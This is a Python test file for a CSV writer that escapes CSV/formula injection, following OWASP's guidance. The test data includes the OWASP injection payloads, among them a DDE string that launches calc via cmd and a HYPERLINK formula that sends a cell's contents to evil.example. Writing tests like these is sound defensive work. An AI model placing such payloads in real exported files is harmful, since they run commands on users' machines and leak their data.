"""The one CSV writer: text that a spreadsheet program could run as a formula gets a leading
``'`` (OWASP, CSV injection); numbers stay numbers; everything else is written as it is."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tongban.kit.csvfile import cell, text

# OWASP's list, plus the line feed and the full-width forms a Chinese input method types.
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]


def read(written: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline="")))


class TestCell:
    @pytest.mark.parametrize("start", STARTS)
    def test_text_that_could_start_a_formula_is_quoted(self, start: str) -> None:
        assert cell(start + "1+cmd|' /C calc'!A0") == "'" + start + "1+cmd|' /C calc'!A0"

    @pytest.mark.parametrize(
        "value",
        [
            '=HYPERLINK("http://evil.example/?"&D2,"Open")',
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "+8613800000000",
            "-5",
        ],
    )
    def test_the_owasp_examples_and_signed_text_are_text(self, value: str) -> None:
        assert cell(value) == "'" + value

    @pytest.mark.parametrize("value", [-5, -0.25, Decimal("-12.50"), 0, 3])
    def test_numbers_stay_numbers_negative_ones_too(self, value: int | float | Decimal) -> None:
        assert cell(value) == value

    @pytest.mark.parametrize("value", ["临江市个体户", "a=b", "1-2", " =1", "'quoted", ""])
    def test_other_text_is_unchanged(self, value: str) -> None:
        assert cell(value) == value

    def test_none_is_empty_and_other_values_are_their_text(self) -> None:
        assert cell(None) == ""
        assert cell(True) == "True"


class TestText:
    def test_writes_a_header_and_rows_with_a_bom(self) -> None:
        written = text(["name", "count"], [["=1+1", -3], ['a "b", c', None]])
        assert written.startswith("\ufeff")
        assert read(written) == [["name", "count"], ["'=1+1", "-3"], ['a "b", c', ""]]

    def test_the_header_is_checked_too_and_the_bom_can_be_left_out(self) -> None:
        written = text(["=cmd"], [], bom=False)
        assert written == "'=cmd\r\n"

    @given(st.lists(st.one_of(st.text(), st.integers(), st.none()), min_size=1, max_size=5))
    def test_no_text_cell_read_back_starts_a_formula(self, row: list[str | int | None]) -> None:
        (_, back) = read(text([f"c{i}" for i in range(len(row))], [row]))
        for value, read_back in zip(row, back, strict=True):
            if isinstance(value, str):
                assert not read_back.startswith(tuple(STARTS))
                assert read_back.removeprefix("'") == value or read_back == value
            elif isinstance(value, int):
                assert read_back == str(value)
